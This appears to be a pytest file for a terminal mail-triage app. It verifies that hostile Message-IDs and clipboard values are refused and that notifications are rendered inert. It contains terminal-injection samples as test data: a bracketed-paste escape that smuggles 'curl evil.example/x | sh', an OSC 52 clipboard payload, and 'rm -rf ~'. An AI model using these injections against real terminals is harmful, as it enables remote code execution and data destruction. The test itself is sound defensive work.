"""The clipboard gets only a validated value. A hostile Message-ID (the bracketed-paste end
``ESC[201~`` followed by a command, OSC 52, bidi, invisible characters) is refused with the
reason in one line; the bytes written to the terminal (OSC 52) never carry it. Against the real
Dovecot, so the Message-ID goes through the real parser; the terminal is the headless driver,
whose writes are recorded."""

from __future__ import annotations

import asyncio
import base64
import time
from typing import Any

import pytest

from tests.mailgen import message
from tests.tui.conftest import loaded, wait_for
from triage_tui.tui.app import TriageApp
from triage_tui.tui.screens.preview import PreviewScreen

NOW = time.time()
PASTE_ATTACK = "<x\x1b[201~; curl evil.example/x | sh; \x1b[200~@evil.example>"
GOOD = "<ok.1234@example.org>"


def _record_writes(app: TriageApp) -> list[str]:
    written: list[str] = []
    driver = app._driver
    assert driver is not None
    original = driver.write

    def write(data: str) -> None:
        written.append(data)
        original(data)

    driver.write = write  # type: ignore[method-assign]
    return written


def _notes(app: TriageApp) -> list[str]:
    return [str(n.message) for n in app._notifications]


async def _preview(pilot: Any, app: TriageApp, uid: int) -> PreviewScreen:
    app.open_preview(uid)
    await wait_for(pilot, lambda: isinstance(app.screen, PreviewScreen), what="the preview")
    screen = app.screen
    assert isinstance(screen, PreviewScreen)
    await wait_for(pilot, lambda: bool(screen.header_text), what="the header")
    return screen


@pytest.mark.parametrize(("message_id", "reason"), [
    (PASTE_ATTACK, "not copied: the Message-ID contains control characters (shown as \\x1b)"),
    ("<clip\x1b]52;c;ZWNobyBwd25lZA==\x07@x>", "not copied: the Message-ID contains control characters (shown as \\x07 \\x1b)"),
    ("<a b@example.org>", "not copied: the Message-ID contains spaces"),
    ("<a@b><c@d>", "not copied: the Message-ID is not of the form"),
])
def test_hostile_message_id_is_refused(mailbox, make_service, message_id: str, reason: str):  # type: ignore[no-untyped-def]
    mailbox.seed([(message(subject="hostile id", message_id=message_id, date=NOW - 60), NOW - 60, "")])
    app = TriageApp(make_service(mailbox), watcher_factory=None)

    async def go() -> None:
        async with app.run_test(size=(140, 30)) as pilot:
            await loaded(pilot)
            written = _record_writes(app)
            await _preview(pilot, app, 1)
            await pilot.press("m")
            await wait_for(pilot, lambda: any("not copied" in n for n in _notes(app)), what="the refusal")
            note = next(n for n in _notes(app) if "not copied" in n)
            assert note.startswith(reason), note
            assert "\n" not in note and "\x1b" not in note
            assert app.clipboard == ""
            out = "".join(written)
            assert "\x1b]52;" not in out, "nothing reached the terminal's clipboard"
            assert "\x1b[201~" not in out and "curl" not in out.replace("\\x1b", "")
            # the UID still copies: digits are digits
            await pilot.press("c")
            await wait_for(pilot, lambda: app.clipboard == "1", what="the UID copy")
            assert "\x1b]52;c;" + base64.b64encode(b"1").decode() + "\x07" in "".join(written)

    asyncio.run(go())


def test_a_good_message_id_is_copied(mailbox, make_service):  # type: ignore[no-untyped-def]
    mailbox.seed([(message(subject="fine", message_id=GOOD, date=NOW - 60), NOW - 60, "")])
    app = TriageApp(make_service(mailbox), watcher_factory=None)

    async def go() -> None:
        async with app.run_test(size=(140, 30)) as pilot:
            await loaded(pilot)
            written = _record_writes(app)
            await _preview(pilot, app, 1)
            await pilot.press("m")
            await wait_for(pilot, lambda: app.clipboard == GOOD, what="the copy")
            assert f"\x1b]52;c;{base64.b64encode(GOOD.encode()).decode()}\x07" in "".join(written)
            assert any(n == f"copied Message-ID {GOOD} (OSC 52 clipboard)" for n in _notes(app))

    asyncio.run(go())


def test_the_app_gate_refuses_any_unsafe_clipboard_value_and_notifications_are_inert():  # type: ignore[no-untyped-def]
    """A call site that forgets to validate still cannot reach the clipboard; a notification or
    a title carrying escapes or markup is shown as text."""
    from tests.tui.fakes import FakeService, sample_messages

    app = TriageApp(FakeService(sample_messages(5)), watcher_factory=None)

    async def go() -> None:
        async with app.run_test(size=(120, 30)) as pilot:
            await pilot.pause(0.1)
            written = _record_writes(app)
            for bad in ("rm -rf ~\r", "\x1b[201~", "a\u202eb", "zero\u200bwidth", "\x9b1m", "nul\x00",
                        "x" * 100_001):
                app.copy_to_clipboard(bad)
            await pilot.pause(0.05)
            assert app.clipboard == "" and "\x1b]52;" not in "".join(written)
            refusals = [n for n in _notes(app) if n.startswith("not copied:")]
            assert len(refusals) == 7, refusals
            # a selection made on screen (already inert) may span lines
            app.copy_to_clipboard("UID 3\tcafé\nUID 4")
            assert app.clipboard == "UID 3\tcafé\nUID 4"
            app.notify("[bold]server[/] said \x1b]0;title\x07 \u202e", title="\x1b[2J[i]t[/i]")
            await pilot.pause(0.05)
            n = list(app._notifications)[-1]
            assert n.message == "[bold]server[/] said \\x1b]0;title\\x07 \\u202e" and n.markup is False
            assert n.title == "\\x1b[2J[i]t[/i]"
            app.title = "mail\x1b]0;pwned\x07\u200b"
            app.sub_title = "\u202eevil"
            assert app.title == "mail\\x1b]0;pwned\\x07\\u200b" and app.sub_title == "\\u202eevil"

    asyncio.run(go())
